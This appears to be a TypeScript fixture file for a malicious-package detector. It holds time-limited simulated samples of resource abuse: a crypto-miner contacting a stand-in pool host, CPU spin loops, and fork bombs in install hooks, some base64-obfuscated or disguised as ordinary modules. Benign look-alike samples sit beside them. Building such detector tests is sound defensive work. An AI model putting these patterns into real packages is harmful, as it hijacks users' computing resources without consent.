import { base64 } from './encode.ts';
import { armed, finding, fires, hooked, latchCommand, pkg, quiet, type Simulant, text } from './simulant.ts';

const any = { phase: ['install', 'import', 'execute'] } as const;
const miner = finding('resource.miner', 'critical', ['net.connect', 'resource'], any);
const spin = finding('resource.cpu-spin', 'high', ['resource'], any);
const storm = finding('resource.fork-bomb', 'high', ['resource'], any);

/** B29: a pool's handshake beside load, an endless loop, a storm of processes. All end by themselves. */
export const resource: readonly Simulant[] = [
  {
    id: 'b29-pool-handshake-and-load',
    row: 'B29',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b29-pool',
        armed`
          const net = require('node:net'), crypto = require('node:crypto');
          const socket = net.connect(3333, 'pool.simulant.invalid', () => {
            socket.write(JSON.stringify({ id: 1, method: 'mining.subscribe', params: ['simulant/1.0'] }) + '\n');
            const end = Date.now() + 8000;
            let hash = Buffer.alloc(32);
            const work = () => {
              for (let i = 0; i < 20000; i++) hash = crypto.createHash('sha256').update(hash).digest();
              if (Date.now() < end) setImmediate(work);
              else socket.destroy();
            };
            work();
          });
          socket.on('error', () => {});
        `,
      ),
    ],
    expect: fires('suspicious', [miner]),
    note: 'One subscription line, eight seconds of hashing nothing.',
  },
  {
    id: 'b29-evasion-pool-behind-http-in-workers',
    row: 'B29',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      pkg('b29-workers', {
        'index.js': armed`
          const { Worker } = require('node:worker_threads');
          const login = Buffer.from('${base64(JSON.stringify({ id: 1, jsonrpc: '2.0', method: 'login', params: { login: 'SIMULANT', pass: 'x', agent: 'simulant' } }))}', 'base64');
          const socket = require('node:net').connect(443, '203.0.113.33', () => {
            socket.write(login + '\n');
            for (let i = 0; i < 2; i++) new Worker(require.resolve('./lib/w'), { env: {} });
            setTimeout(() => socket.destroy(), 9000);
          });
          socket.on('error', () => {});
          module.exports = (rows) => rows;
        `,
        'lib/w.js': text`
          const c = require('node:crypto');
          for (let h = 'a', end = performance.now() + 8000; performance.now() < end; ) h = c.createHash('sha512').update(h).digest('latin1');
        `,
      }),
    ],
    expect: fires('suspicious', [miner]),
    note: 'The other common dialect, on the port of HTTPS, load in two workers.',
  },
  {
    id: 'b29-neighbour-hashes-own-files',
    row: 'B29',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('n29-hash', {
        'index.js': text`
          const crypto = require('node:crypto');
          exports.derive = (password) => crypto.pbkdf2Sync(String(password), 'salt', 300000, 32, 'sha256').toString('hex');
          exports.jsonRpc = (method, params) => JSON.stringify({ id: 1, jsonrpc: '2.0', method: String(method), params });
        `,
      }),
    ],
    expect: quiet(['resource.', 'c2.']),
    note: 'Slow by design for a moment, when called; makes JSON-RPC text.',
  },
  {
    id: 'b29-loop-until-deadline',
    row: 'B29',
    kind: 'positive',
    form: 'plain',
    packages: [
      pkg('b29-loop', {
        'index.js': armed`
          const end = performance.now() + 600000;
          while (performance.now() < end) Math.sqrt(end);
          module.exports = (rows) => rows;
        `,
      }),
    ],
    expect: fires('suspicious', [spin]),
    note: 'Ten minutes, longer than any phase may take.',
  },
  {
    id: 'b29-evasion-children-spin',
    row: 'B29',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg(
        'b29-children',
        {},
        {
          scripts: {
            install: `${latchCommand}env -i timeout 600 sh -c 'i=0; while [ $i -lt 2000000000 ]; do i=$((i+1)); done'`,
          },
        },
      ),
    ],
    expect: fires('suspicious', [spin]),
    note: 'A shell counts; Node sleeps.',
  },
  {
    id: 'b29-neighbour-short-warm-up',
    row: 'B29',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('n29-table', {
        'index.js': text`
          const sieve = new Uint8Array(2000000);
          for (let i = 2; i * i < sieve.length; i++) if (!sieve[i]) for (let j = i * i; j < sieve.length; j += i) sieve[j] = 1;
          exports.isPrime = (n) => Number.isInteger(n) && n > 1 && n < sieve.length && !sieve[n];
        `,
      }),
    ],
    expect: quiet(['resource.']),
    note: 'A table made at import in a few milliseconds.',
  },
  {
    id: 'b29-process-storm',
    row: 'B29',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b29-storm',
        armed`
          const { spawn } = require('node:child_process');
          for (let i = 0; i < 700; i++) spawn('sleep', ['15'], { stdio: 'ignore' }).on('error', () => {}).unref();
        `,
      ),
    ],
    expect: fires('suspicious', [storm]),
    note: 'Seven hundred sleepers at once, gone after fifteen seconds.',
  },
  {
    id: 'b29-evasion-doubling-shell',
    row: 'B29',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg(
        'b29-doubling',
        {
          'grow.sh': text`
            #!/bin/sh
            [ "$1" -gt 9 ] && exec sleep 10
            sh grow.sh $(($1 + 1)) & sh grow.sh $(($1 + 1)) & wait
          `,
        },
        { scripts: { postinstall: `${latchCommand}timeout 20 sh grow.sh 1 || true` } },
      ),
    ],
    expect: fires('suspicious', [storm]),
    note: 'Each shell starts two, ten generations deep, twenty seconds at most.',
  },
  {
    id: 'b29-neighbour-small-pool',
    row: 'B29',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('n29-pool', {
        'index.js': text`
          const { execFile } = require('node:child_process'), os = require('node:os');
          exports.checkAll = (words) => {
            const size = Math.min(os.availableParallelism(), 4);
            return Promise.all(Array.from({ length: size }, (_, i) => new Promise((done) => {
              execFile('node', ['-e', 'process.exit(0)', String(i), String([].concat(words).length)], (error) => done(!error));
            })));
          };
        `,
      }),
    ],
    expect: quiet(['resource.', 'exec.']),
    note: 'As many short children as there are processors, when called.',
  },
];
